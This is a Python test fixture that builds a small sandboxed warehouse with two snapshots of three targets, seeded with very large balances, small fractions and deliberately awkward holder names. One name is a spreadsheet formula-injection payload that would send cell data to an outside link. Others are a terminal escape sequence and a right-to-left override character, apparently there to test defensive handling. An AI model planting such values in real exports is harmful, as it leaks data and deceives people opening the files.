"""A warehouse with two snapshots of three targets, for whoever only reads it.

It has what is hard to hand on: a balance of 78 digits, fractions, names that hurt.
"""

from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass, field
from decimal import Decimal
from pathlib import Path

from pydantic import SecretStr

from pipelines.demo import demo_runtime
from pipelines.runtime import Runtime
from pipelines.sandbox.server import Sandbox
from pipelines.sandbox.world import EMPTY, World
from pipelines.settings import Settings
from pipelines.warehouse.concentration import refresh_concentration
from pipelines.warehouse.registry import PublishedSnapshot
from tests.conftest import Pipeline

LARGEST = 2**256 - 1
WALLET = "0x" + "a1" * 20
DEVICE = "d" + 19 * "X"
FORMULA = '=HYPERLINK("http://example.org/?"&A1,"click")'
NAMES = [FORMULA, 'A "quoted", name\r\nof three\nlines', "", "\x1b[2J\u202etxt", "@risk", "'quoted"]
ITEM_LABEL = "The item"


@dataclass
class SmallWorld:
    """The database and what was published into it."""

    url: str
    pipeline: Pipeline
    item: str = ""
    of_item: list[PublishedSnapshot] = field(default_factory=list)


@contextmanager
def small_world(
    create_database: Callable[..., str], migrated_template: str, home: Path
) -> Iterator[SmallWorld]:
    url = create_database(template=migrated_template)
    world = World(size=EMPTY)
    with Sandbox(world) as sandbox, ExitStack() as stack:
        made = demo_runtime(Settings(_env_file=None), sandbox.urls)
        settings = made.settings.model_copy(
            update={"database_url": SecretStr(url), "holdfast_home": home}
        )
        pipeline = Pipeline(Runtime(settings, made.providers), world, stack)
        told = SmallWorld(url, pipeline)
        _tell(told, world)
        yield told


def _tell(told: SmallWorld, world: World) -> None:
    item = told.item = world.add_altura_item(5)
    asset, principal = world.add_catenis_asset(8), world.add_hiro_principal(7)
    for number, name in enumerate(NAMES, 1):
        world.altura_set(item, f"0x{number:040x}", number, name=name)
    world.altura_set(item, WALLET, LARGEST)
    targets = [
        told.pipeline.target(item, label=ITEM_LABEL),
        told.pipeline.target(asset, label="The asset"),
        told.pipeline.target(principal),
    ]
    told.of_item.append(told.pipeline.take(targets[0]))
    for target in targets[1:]:
        told.pipeline.take(target)
    world.altura_set(item, WALLET, LARGEST - 1)
    world.hiro_transfer_out(principal, 1)
    world.catenis_set(asset, DEVICE, Decimal("0.0000001"))
    told.of_item.append(told.pipeline.take(targets[0]))
    for target in targets[1:]:
        told.pipeline.take(target)
    with told.pipeline.warehouse.connect() as connection:
        refresh_concentration(connection)
